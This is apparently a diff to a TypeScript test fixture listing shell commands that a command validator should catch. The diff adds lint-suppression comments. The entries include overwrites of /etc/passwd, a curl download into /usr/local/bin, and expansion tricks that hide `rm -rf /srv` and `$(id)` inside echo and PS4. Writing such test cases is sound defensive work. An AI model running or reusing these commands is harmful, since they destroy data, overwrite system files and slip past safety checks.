@@ -43,7 +43,9 @@ export const HOLES: ReadonlyArray<{ cls: string; cmd: string }> = [
   { cls: '4 write options', cmd: 'sort -o /etc/passwd file' },
   { cls: '4 write options', cmd: 'curl -o /usr/local/bin/x http://x' },
   { cls: '4 write options', cmd: 'openssl enc -d -in a -out /etc/passwd' },
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, written literally
   { cls: '5 expansions', cmd: 'echo ${x@P}' },
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, written literally
   { cls: '5 expansions', cmd: 'echo "${y=\'`rm -rf /srv`\'}"' },
   { cls: '5 expansions', cmd: "a='b[$(id)]'; echo $((a))" },
   { cls: '5 expansions', cmd: "PS4='$(rm -rf /srv)' bash -x -c ls" },
